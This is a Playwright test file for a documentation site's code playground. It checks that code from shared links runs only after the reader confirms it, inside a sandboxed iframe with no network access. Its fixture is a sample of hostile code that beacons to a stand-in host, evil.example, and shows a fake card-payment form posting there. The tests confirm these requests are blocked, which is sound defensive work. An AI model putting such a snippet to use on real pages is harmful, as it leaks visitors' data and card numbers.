import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import AxeBuilder from '@axe-core/playwright';
import { expect, test, type Locator, type Page } from '@playwright/test';
import { createHeaders } from '../plugins/hosting/createHeaders';
import { createRunnerHeader, parseHashes } from '../plugins/hosting/createPolicies';
import { formatNginx } from '../plugins/hosting/formatNginx';
import { listRules } from '../plugins/hosting/listRules';
import { serveNginx } from '../testing/servers/serveNginx';
import { findFreePort } from '../testing/servers/findFreePort';
import { encodeProgram, formatEditHash } from '../src/lib/codeLink';
import { formatPolicy } from '../src/lib/contentPolicy';
import { RUNNER_CONFIG_ID } from '../src/lib/contracts/runner';
import { reachDemo } from './reachDemo';
import { addConfig, serveConfigured } from './serveConfigured';
import { chooseVariants } from '../testing/plan/plan';
import { expectNoSidewaysScroll, openVariant } from '../testing/visitor/variants';
import { waitForIdle } from '../testing/visitor/waitForIdle';
import { watchConsole } from '../testing/visitor/watchConsole';

/** Code from a link, which anyone could have written. */

const PAGE = '/x/react-tree-view/quickstart/';
const NAME = 'FirstSimpleTree';
const STRANGER = 'https://evil.example/';

/** It would send requests as soon as it runs, and reads what readers type. */
const CODE = `fetch('${STRANGER}fetch').catch(() => {});
new Image().src = '${STRANGER}image';
navigator.sendBeacon('${STRANGER}beacon');

export default function App() {
  return (
    <form action="${STRANGER}form">
      <input aria-label="Card number" />
      <button>Pay</button>
    </form>
  );
}
`;

const linkToPage = (code = CODE) =>
  PAGE + formatEditHash(`system-${NAME}`, [{ name: `${NAME}.tsx`, code }]);

const linkToPlayground = (code = CODE) =>
  `/playground/#code=${encodeProgram({
    version: 'v8',
    library: 'tree-view',
    styling: 'system',
    language: 'TS',
    files: [{ name: 'App.tsx', code }],
  })}`;

const PLACES = [
  ['a page', linkToPage, (page: Page) => page.locator(`[data-demo="${NAME}"]`)],
  ['the playground', linkToPlayground, (page: Page) => page.getByRole('main')],
] as const;

const getButton = (place: Locator) => place.getByRole('button', { name: 'Run this code' });
const getResult = (place: Locator) => place.frameLocator('iframe');

/** Collects requests outside of the site, or outside of the documents in which code runs. */
function watchRequests(page: Page, site: string): string[] {
  const asked: string[] = [];
  page.on('request', (request) => {
    const { origin, pathname, protocol } = new URL(request.url());
    const isOwn = origin === new URL(site).origin && !pathname.startsWith('/runner/');
    if (!isOwn && !['data:', 'blob:'].includes(protocol)) {
      asked.push(request.url());
    }
  });
  return asked;
}

/** Collects the requests that reach a stranger's server. */
async function serveStranger(page: Page): Promise<string[]> {
  const received: string[] = [];
  await page.context().route(`${STRANGER}**`, (route) => {
    received.push(route.request().url());
    return route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: '' });
  });
  return received;
}

for (const [name, link, find] of PLACES) {
  test.describe(`a link with code to ${name}`, () => {
    test('runs and requests nothing before the reader runs it, and has no network access afterwards', async ({
      page,
      baseURL,
    }) => {
      const asked = watchRequests(page, baseURL!);
      const received = await serveStranger(page);
      await page.goto(link());
      const place = find(page);
      await expect(getButton(place)).toHaveAccessibleDescription(
        'This code came with the link. Read it, then run it.',
      );
      await expect(place.getByText('Card number')).toBeVisible();
      await page.waitForLoadState('networkidle');
      await expect(page.locator('iframe')).toHaveCount(0);
      expect(asked).toEqual([]);

      await getButton(place).click();
      await expect(getButton(place)).toHaveCount(0);
      const result = getResult(place);
      await result.getByLabel('Card number').fill('4111');
      await result.getByRole('button', { name: 'Pay' }).click();
      await expect(result.getByLabel('Card number')).toHaveValue('4111');
      // Requests blocked by a policy may keep the network from ever being idle.
      await waitForIdle(page);
      expect(received).toEqual([]);
    });

    test('waits while it is edited', async ({ page }) => {
      await page.goto(link());
      const place = find(page);
      await expect(getButton(place)).toBeVisible();
      await place.getByText('Card number').click();
      await page.keyboard.type('X');
      await expect(place.locator('.cm-content')).toContainText('X');
      await waitForIdle(page);
      await expect(page.locator('iframe')).toHaveCount(0);
      await expect(getButton(place)).toBeVisible();
    });

    test('runs immediately after a reload if the reader has run it, and asks in another tab', async ({
      page,
      context,
    }) => {
      await page.goto(link());
      await getButton(find(page)).click();
      await expect(getResult(find(page)).getByLabel('Card number')).toBeVisible();
      await page.reload();
      await expect(getResult(find(page)).getByLabel('Card number')).toBeVisible();
      await expect(getButton(find(page))).toHaveCount(0);
      const other = await context.newPage();
      await other.goto(link());
      await expect(getButton(find(other))).toBeVisible();
      await expect(other.locator('iframe')).toHaveCount(0);
      // Different code needs confirmation in the first tab as well.
      await page.goto('about:blank');
      await page.goto(link(CODE.replace('Pay', 'Buy')));
      await expect(getButton(find(page))).toBeVisible();
      await page.reload();
      await expect(getButton(find(page))).toBeVisible();
      await expect(page.locator('iframe')).toHaveCount(0);
    });

    test('is in view, runs with the keyboard, and the focus stays there', async ({ page }) => {
      await page.goto(link());
      const place = find(page);
      await expect(getButton(place)).toBeInViewport();
      if (name === 'a page') {
        await page.keyboard.press('Tab');
      } else {
        await getButton(place).focus();
      }
      await expect(getButton(place)).toBeFocused();
      await page.keyboard.press('Enter');
      await expect(getResult(place).getByLabel('Card number')).toBeVisible();
      expect(await place.evaluate((element) => element.contains(document.activeElement))).toBe(
        true,
      );
    });

    for (const variant of chooseVariants(__filename)) {
      const { mode, direction, width } = variant;
      test(`axe finds nothing in ${mode}, ${direction}, at ${width} px`, async ({ browser }) => {
        const { page, messages, close } = await openVariant(browser, variant);
        await page.goto(link());
        const place = find(page);
        if (width < 600 && name === 'the playground') {
          await page.getByRole('radio', { name: 'Result' }).check();
        }
        await getButton(place).scrollIntoViewIfNeeded();
        await expect(getButton(place)).toBeVisible();
        const { height } = (await getButton(place).boundingBox())!;
        expect(height).toBeGreaterThanOrEqual(44);
        await page.evaluate(() => {
          window.layoutShift = 0;
        });
        const { violations } = await new AxeBuilder({ page }).analyze();
        expect(violations.map(({ id, nodes }) => [id, nodes.map(({ html }) => html)])).toEqual([]);
        await expectNoSidewaysScroll(page);
        await getButton(place).click();
        await expect(getResult(place).getByLabel('Card number')).toBeVisible();
        expect(await page.evaluate(() => window.layoutShift), 'layout shift').toBe(0);
        expect(messages.filter((text) => !text.includes(STRANGER))).toEqual([]);
        await close();
      });
    }
  });
}

test.describe('code written by the reader', () => {
  const OWN = 'export default function App() {\n  return <p>My own</p>;\n}\n';

  async function write(page: Page, place: Locator): Promise<void> {
    const code = place.getByRole('group', { name: /^Code of/ }).first();
    await code.focus();
    await page.keyboard.press('Enter');
    await expect(place.locator('.cm-content').first()).toBeFocused();
    await page.keyboard.press('ControlOrMeta+a');
    await page.keyboard.insertText(OWN);
    await expect(getResult(place).getByText('My own')).toBeVisible();
  }

  test('runs immediately if its link is opened in the same tab, from a page', async ({
    page,
    context,
  }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    await page.goto(PAGE);
    const demo = await reachDemo(page, NAME);
    const expand = demo.getByRole('button', { name: /Expand code|Show code/ });
    await expand.click();
    await write(page, demo);
    await demo.getByRole('button', { name: 'More' }).click();
    await page.getByRole('menuitem', { name: 'Copy link to this edit' }).click();
    await expect(demo.getByRole('status').filter({ hasText: 'copied' })).toBeVisible();
    const link = await page.evaluate(() => navigator.clipboard.readText());
    await page.goto('about:blank');
    await page.goto(PAGE + new URL(link).hash);
    await expect(getResult(demo).getByText('My own')).toBeVisible();
    await page.reload();
    await expect(getResult(demo).getByText('My own')).toBeVisible();
    await demo.getByRole('button', { name: 'Open in the playground' }).click();
    await expect(page).toHaveURL(/\/playground\/#code=/);
    await expect(getResult(page.getByRole('main')).getByText('My own')).toBeVisible();
  });

  test('runs immediately after it was shared and reloaded in the playground', async ({ page }) => {
    await page.goto('/playground/');
    const main = page.getByRole('main');
    await write(page, main);
    await page.getByRole('button', { name: 'Share' }).click();
    await expect(page).toHaveURL(/#code=/);
    await page.reload();
    await expect(getResult(main).getByText('My own')).toBeVisible();
    await expect(getButton(main)).toHaveCount(0);
  });
});

/** A policy's directives with their sources, without those for the document's own URL and code. */
function parsePolicy(policy: string, own: RegExp): Record<string, string[]> {
  return Object.fromEntries(
    policy.split('; ').map((directive) => {
      const [name, ...sources] = directive.split(' ') as [string, ...string[]];
      return [name, sources.filter((source) => !own.test(source))];
    }),
  );
}

test('the document in which code runs has the policy that it is sent with', async ({ page }) => {
  const response = await page.goto('/runner/v8/');
  const own = /^('self'|https?:\/\/.*\/runner\/.*|'sha256-.*')$/;
  const sent = parsePolicy(response!.headers()['content-security-policy']!, own);
  const said = parsePolicy(
    (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content'))!,
    own,
  );
  const { sandbox, 'frame-ancestors': ancestors, ...rest } = sent;
  expect(sandbox).toEqual(['allow-scripts']);
  expect(ancestors).toEqual([]);
  expect(said).toEqual(rest);
  expect(said).toMatchObject({
    'connect-src': ["'none'"],
    'form-action': ["'none'"],
    'img-src': ['data:', 'blob:'],
  });
});

test("a stranger's page can't run code with the site's origin, even on a host without headers", async ({
  page,
  baseURL,
}) => {
  // See serveConfigured.
  await page
    .context()
    .grantPermissions(['local-network-access'])
    .catch(() => {});
  await page.route('**/runner/v8/', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ contentType: 'text/html', body: await response.text() });
  });
  const program = {
    files: [
      {
        name: 'App.tsx',
        code: 'top.postMessage("ran in " + origin, "*"); export default () => null;',
      },
    ],
    styling: 'system',
  };
  const theme = { mode: 'light', direction: 'ltr', dense: false, fills: false };
  const run = { type: 'run', runId: 1, program, theme, licenseKey: '' };
  const visit = async (sandbox: string) => {
    await page.route(`${STRANGER}page`, (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<script>
          said = [];
          addEventListener('message', ({ data }) => said.push(data.type ?? data));
        </script>
        <iframe ${sandbox} src="${baseURL}/runner/v8/" onload="contentWindow.postMessage(${JSON.stringify(run).replaceAll('"', '&quot;')}, '*')"></iframe>`,
      }),
    );
    await page.goto(`${STRANGER}page`);
  };
  const read = () => page.evaluate<string[]>('said');
  await visit('');
  await page.waitForLoadState('networkidle');
  await waitForIdle(page);
  expect(await read()).toEqual([]);
  await visit('sandbox="allow-scripts"');
  await expect.poll(read).toContain('ran in null');
});

test('code runs in documents from another origin if the deployer has one', async ({
  page,
  request,
  baseURL,
}) => {
  const port = await findFreePort();
  const runnerOrigin = `http://127.0.0.1:${port}`;
  const buildDir = path.join(__dirname, '../build');
  const directory = mkdtempSync(path.join(tmpdir(), 'runner-origin-'));
  const siteConf = path.join(directory, 'site.conf');
  const built = (await request.get('/runner/v8/')).headers()['content-security-policy']!;
  const site = { url: new URL(baseURL!).origin, baseUrl: '/', runnerOrigin };
  const headers = createHeaders({
    pagePolicy: "default-src 'self'",
    runnerPolicy: formatPolicy(createRunnerHeader(parseHashes(built), site)),
    transportSecurity: '',
  });
  const rules = listRules(['runner/'], readdirSync(path.join(buildDir, 'runner')));
  writeFileSync(siteConf, formatNginx({ headers, rules, redirects: [], baseUrl: '/' }));
  const server = serveNginx({ buildDir, siteConf, baseUrl: '/', port });
  try {
    await expect(() => fetch(`${runnerOrigin}/runner/v8/`)).toPass({ timeout: 15_000 });
    const tell = (html: string) =>
      addConfig(html, RUNNER_CONFIG_ID, JSON.stringify({ origin: runnerOrigin }));
    await serveConfigured(page, { runnerOrigin }, tell);
    await serveConfigured(page, { runnerOrigin }, tell, /\/playground\/$/);
    const messages = watchConsole(page);
    const code = 'export default function App() {\n  return <p>Elsewhere</p>;\n}\n';
    for (const [, link, find] of PLACES) {
      await page.goto(link(code));
      await getButton(find(page)).click();
      await expect(getResult(find(page)).getByText('Elsewhere')).toBeVisible();
      const runner = page.frames().find((frame) => frame.url().includes('/runner/'))!;
      expect(new URL(runner.url()).origin).toBe(runnerOrigin);
      expect(await runner.evaluate(() => window.origin)).toBe('null');
    }
    expect(messages).toEqual([]);
  } finally {
    server.close();
    rmSync(directory, { recursive: true });
  }
});
